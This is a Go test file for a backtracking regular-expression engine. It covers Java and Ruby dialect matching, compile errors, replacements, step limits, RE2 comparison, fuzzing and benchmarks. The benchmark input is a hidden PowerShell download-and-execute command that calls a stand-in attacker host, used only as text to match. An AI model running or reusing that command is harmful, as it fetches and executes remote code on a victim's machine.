package backtrack

import (
	"errors"
	"fmt"
	"regexp"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"

	"pgregory.net/rapid"
)

func find(t testing.TB, dialect Dialect, pattern, text string) []string {
	t.Helper()
	re, err := Compile(pattern, Options{Dialect: dialect})
	if err != nil {
		t.Fatalf("%s: %v", pattern, err)
	}
	loc, err := re.Matcher().Find(text, 0)
	if err != nil {
		t.Fatalf("%s on %q: %v", pattern, text, err)
	}
	return groups(text, loc)
}

// groups gives the texts of the groups, "-" for one that took no part.
func groups(text string, loc []int) []string {
	var out []string
	for i := 0; i < len(loc); i += 2 {
		if loc[i] < 0 {
			out = append(out, "-")
			continue
		}
		out = append(out, text[loc[i]:loc[i+1]])
	}
	return out
}

// TestFind holds what one pattern finds, as match and groups joined by a bar; "" for no match.
func TestFind(t *testing.T) {
	for _, test := range []struct {
		dialect             Dialect
		pattern, text, want string
	}{
		{Java, `a|ab`, "xab", "a"}, // the first alternative, not the longest
		{Java, `(a|ab)(c|bcd)`, "abcd", "abcd|a|bcd"},
		{Java, `a+?`, "aaa", "a"},
		{Java, `(a*)(a+)`, "aaa", "aaa|aa|a"},
		{Java, `(a*?)(a+)`, "aaa", "aaa||aaa"},
		{Java, `a{2}`, "aaaa", "aa"},
		{Java, `a{2,3}?`, "aaaa", "aa"},
		{Java, `(ab){2,}`, "ababab", "ababab|ab"},
		{Java, `a++a`, "aaa", ""}, // possessive gives nothing back
		{Java, `(?:ab)++a`, "ababa", "ababa"},
		{Java, `(?>a|ab)c`, "abc", ""},
		{Java, `(?:a|ab)c`, "abc", "abc"},
		{Java, `foo(?=bar)`, "foobaz foobar", "foo"},
		{Java, `foo(?!bar).`, "foobar foobaz", "foob"},
		{Java, `(?<=a|bc)x`, "abcx", "x"},
		{Java, `(?<=a|bcd)x`, "abcx", ""},
		{Java, `(?<!a)x`, "axbx", "x"},
		{Java, `(?<=a{1,3})b`, "aab", "b"},
		{Java, `(.)\1`, "abccd", "cc|c"},
		{Java, `(?<n>\d)\k<n>`, "1223", "22|2"},
		{Java, `(?i)ABC`, "xabC", "abC"},
		{Java, `(?i)ä`, "Ä", ""}, // Java folds ASCII only
		{Java, `(?iu)ä`, "Ä", "Ä"},
		{Ruby, `(?i)ä`, "Ä", "Ä"},
		{Java, `a(?i)b|c`, "C", "C"}, // the flag holds over the bar
		{Ruby, `a(?i)b|c`, "C", ""},  // in Ruby the bar is inside what the flag made a group
		{Ruby, `a(?i)b|c`, "aC", "aC"},
		{Java, `^b`, "a\nb", ""},
		{Java, `(?m)^b`, "a\nb", "b"},
		{Ruby, `^b`, "a\nb", "b"},
		{Java, `a$`, "a\n", "a"},
		{Java, `a$`, "a\nb", ""},
		{Ruby, `a$`, "a\nb", "a"},
		{Java, `a\z`, "a\n", ""},
		{Java, `a.b`, "a\rb", ""},
		{Ruby, `a.b`, "a\rb", "a\rb"},
		{Java, `(?s)a.b`, "a\nb", "a\nb"},
		{Ruby, `(?m)a.b`, "a\nb", "a\nb"},
		{Ruby, `a.b`, "a\nb", ""},
		{Java, `\h`, "f \t", " "},
		{Ruby, `\h`, "xf", "f"},
		{Java, `[a-c&&[^b]]+`, "bac", "ac"},
		{Java, `[[a-c][x-z]]+`, "-axbz", "axbz"},
		{Java, `[^a-c]+`, "abcdé", "dé"},
		{Java, `[]a]+`, "x]a", "]a"},
		{Ruby, `[[:alpha:]_]+`, "1é_2", "é_"},
		{Ruby, `[[:^alpha:]]+`, "a12", "12"},
		{Java, `\p{Lu}\p{IsLatin}`, "aÉa", "Éa"},
		{Java, `\p{Alpha}+`, "éab", "ab"}, // POSIX names are ASCII in Java
		{Ruby, `\p{Alpha}+`, "éab", "éab"},
		{Ruby, `\p{^Digit}+`, "1a", "a"},
		{Java, `\Qa.b\E+`, "a.bb", "a.b"},
		{Java, `\bfoo\b`, "afoo foo", "foo"},
		{Ruby, `\bab`, "éab ab", "ab"},     // é is a letter
		{Ruby, `(a)(?<n>b)`, "ab", "ab|b"}, // with a name, groups without do not capture
		{Ruby, `(a)(b)`, "ab", "ab|a|b"},
		{Ruby, `(?<a.b>x)(?<a.b>y)`, "xy", "xy|x|y"},
		{Ruby, `a{,2}`, "aaa", "aa"},
		{Ruby, `a{x`, "a{x", "a{x"},
		{Ruby, `\u0041\x42`, "AB", "AB"},
		{Java, `\x{1F600}\t`, "😀\t", "😀\t"},
		{Java, `(?x) a b # c`, "ab", "ab"},
		{Ruby, `a(?#no)b`, "ab", "ab"},
		{Java, `(a*)*b`, "aab", "aab|"},
		{Java, `(?:a|b)*?c`, "abac", "abac"},
		{Java, `()`, "a", "|"},
		{Java, `\R`, "a\r\nb", "\r\n"},
		{Java, `[\w.-]+@[\w.]+`, "to: a-b@c.d!", "a-b@c.d"},
	} {
		if got := strings.Join(find(t, test.dialect, test.pattern, test.text), "|"); got != test.want {
			t.Errorf("%s on %q: %q, want %q", test.pattern, test.text, got, test.want)
		}
	}
}

func TestErrors(t *testing.T) {
	for _, test := range []struct {
		dialect       Dialect
		pattern, want string
	}{
		{Java, `a)`, "without its opening"},
		{Java, `(a`, "does not close"},
		{Java, `[a`, "bracket does not close"},
		{Java, `*a`, "repeats nothing, at character 1"},
		{Java, `é{2`, "at character 2"},
		{Java, `a\`, "a backslash ends"},
		{Java, `\y`, "not an escape"},
		{Java, `(?<=a+)b`, "longest length"},
		{Java, `(?<a.b>x)`, "cannot name a group"},
		{Java, `(?<a>x)(?<a>y)`, "two groups"},
		{Java, `\2(a)`, "group that is not there"},
		{Java, `\p{Nope}`, "not a known"},
		{Java, `[z-a]`, "backwards"},
		{Java, `a{3,2}`, "out of range"},
		{Java, `(((ab){999}c){999}){9}`, "too large"},
		{Java, strings.Repeat("(", 600), "nest deeper"},
		{Java, strings.Repeat("[", 600), "nest deeper"},
		{Ruby, `(?<1>x)`, "cannot name"},
		{Ruby, `(?s)a`, "is not a group"},
	} {
		_, err := Compile(test.pattern, Options{Dialect: test.dialect})
		if err == nil || !strings.Contains(err.Error(), test.want) {
			t.Errorf("%.40s: %v, want %q", test.pattern, err, test.want)
		}
	}
}

func TestReplace(t *testing.T) {
	for _, test := range []struct{ pattern, replacement, text, want string }{
		{`b`, `x`, "abcb", "axcx"},
		{`(\w)(\d)`, `$2$1`, "a1 b2", "1a 2b"},
		{`(?<k>a)`, `${k}$0`, "ba", "baa"},
		{`x*`, `-`, "xa", "--a-"},
		{`a`, `\$1`, "a", "$1"},
		{`(a)`, `$12`, "a", "a2"}, // there is no group 12
		{`(a)|b`, `[$1]`, "ab", "[a][]"},
		{`z`, `x`, "abc", "abc"},
		{``, `-`, "é", "-é-"},
		{`\x00`, ``, "p\x00w\x00", "pw"},
	} {
		re, err := Compile(test.pattern, Options{})
		if err != nil {
			t.Fatal(err)
		}
		replacement, err := re.Replacement(test.replacement)
		if err != nil {
			t.Fatal(err)
		}
		if got, err := re.Matcher().Replace(test.text, replacement); got != test.want || err != nil {
			t.Errorf("replace %s in %q by %s: %q, %v, want %q", test.pattern, test.text, test.replacement, got, err, test.want)
		}
	}
	re, _ := Compile(`(a)`, Options{})
	for _, bad := range []string{`$`, `$x`, `$2`, `${a}`, `${`, `\`} {
		if _, err := re.Replacement(bad); err == nil {
			t.Errorf("replacement %q is accepted", bad)
		}
	}
}

// Patterns that take exponential time without memory, and such as cannot have one.
func TestSteps(t *testing.T) {
	long := strings.Repeat("a", 3000)
	for _, pattern := range []string{`(a|a)*b`, `(a*)*b`, `(a|aa)+$b`, `([a-z]+)+!`, `a*a*a*a*a*b`, `(.*)(.*)(.*)b!`} {
		re, err := Compile(pattern, Options{})
		if err != nil {
			t.Fatal(err)
		}
		if ok, err := re.Match(long); ok || err != nil {
			t.Errorf("%s: %v, %v", pattern, ok, err)
		}
	}
	re, err := Compile(`(a|aa)*(?=(b))`, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := re.Match(long); !errors.Is(err, ErrSteps) {
		t.Errorf("a pattern that cannot remember: %v", err)
	}
}

// patterns draws expressions that RE2 reads as Java does.
func patterns(depth int) *rapid.Generator[string] {
	return rapid.Custom(func(t *rapid.T) string {
		if depth == 0 {
			return rapid.SampledFrom([]string{"a", "b", "c", "é", ".", "[ab]", "[^a]", `\d`, `\w`, "1", `\b`, "^", "$"}).Draw(t, "atom")
		}
		sub := patterns(depth - 1)
		switch rapid.IntRange(0, 5).Draw(t, "form") {
		case 0:
			return "(" + sub.Draw(t, "a") + ")"
		case 1:
			return "(?:" + sub.Draw(t, "a") + "|" + sub.Draw(t, "b") + ")"
		case 2:
			quantifier := rapid.SampledFrom([]string{"*", "+", "?", "*?", "+?", "??", "{2}", "{1,2}", "{1,}?"}).Draw(t, "quantifier")
			return "(?:[ab]" + sub.Draw(t, "a") + ")" + quantifier
		case 3:
			return sub.Draw(t, "a")
		}
		return sub.Draw(t, "a") + sub.Draw(t, "b")
	})
}

// TestAgainstRE2 compares match and groups with Go's engine, which keeps the same preferences, and the run that
// remembers with the one that does not.
func TestAgainstRE2(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		pattern := patterns(4).Draw(t, "pattern")
		text := rapid.StringOfN(rapid.SampledFrom([]rune("abcé1 ")), 0, 12, -1).Draw(t, "text")
		want := regexp.MustCompile(strings.ReplaceAll(pattern, "$", `\z`)).FindStringSubmatchIndex(text)
		re, err := Compile(pattern, Options{})
		if err != nil {
			t.Fatal(err)
		}
		m := re.Matcher()
		got, err := m.Find(text, 0)
		if err != nil || !slices.Equal(got, want) {
			t.Fatalf("%s on %q: %v, %v, want %v", pattern, text, got, err, want)
		}
		if re.spelled == nil {
			return
		}
		m.prog, m.memory, m.limit = re.spelled, newMemory(len(re.spelled), len(text)), 1<<30
		if got, err = m.search(0); err != nil || !slices.Equal(got, want) {
			t.Fatalf("%s on %q with memory: %v, %v, want %v", pattern, text, got, err, want)
		}
	})
}

func FuzzCompileAndFind(f *testing.F) {
	f.Add(`(?<a>\w+)@(?i:x)$`, "foo@X", true)
	f.Add(`[[:alpha:]&&[^b]]{2,3}?`, "abc", false)
	f.Add(`(?<=a|b)(?!c)\1*+`, "aa", true)
	f.Add(`((a*)*)*\k<b>`, "aaaa", false)
	f.Fuzz(func(t *testing.T, pattern, text string, ruby bool) {
		if len(pattern) > 200 || len(text) > 500 {
			return
		}
		o := Options{}
		if ruby {
			o.Dialect = Ruby
		}
		re, err := Compile(pattern, o)
		if err != nil {
			return
		}
		loc, err := re.Matcher().Find(text, 0)
		if err != nil && !errors.Is(err, ErrSteps) {
			t.Fatal(err)
		}
		for i := 0; i < len(loc); i += 2 {
			if loc[i] >= 0 && (loc[i] > loc[i+1] && i == 0 || loc[i+1] > len(text)) {
				t.Fatalf("group %d of %q on %q: %v", i/2, pattern, text, loc)
			}
		}
		if replacement, err := re.Replacement(`<$0>`); err == nil && utf8.ValidString(text) {
			if _, err := re.Matcher().Replace(text, replacement); err != nil && !errors.Is(err, ErrSteps) {
				t.Fatal(err)
			}
		}
	})
}

func BenchmarkFind(b *testing.B) {
	line := `powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://evil.example.com:8080/a.ps1')"`
	for _, pattern := range []string{`http://`, `(\w+)://([^/:]+)`, `(?i)download\w+`, `.*\('(.*?)'\)`} {
		b.Run(fmt.Sprintf("%q", pattern), func(b *testing.B) {
			re, err := Compile(pattern, Options{})
			if err != nil {
				b.Fatal(err)
			}
			m := re.Matcher()
			for b.Loop() {
				if loc, err := m.Find(line, 0); loc == nil || err != nil {
					b.Fatal(loc, err)
				}
			}
		})
	}
}
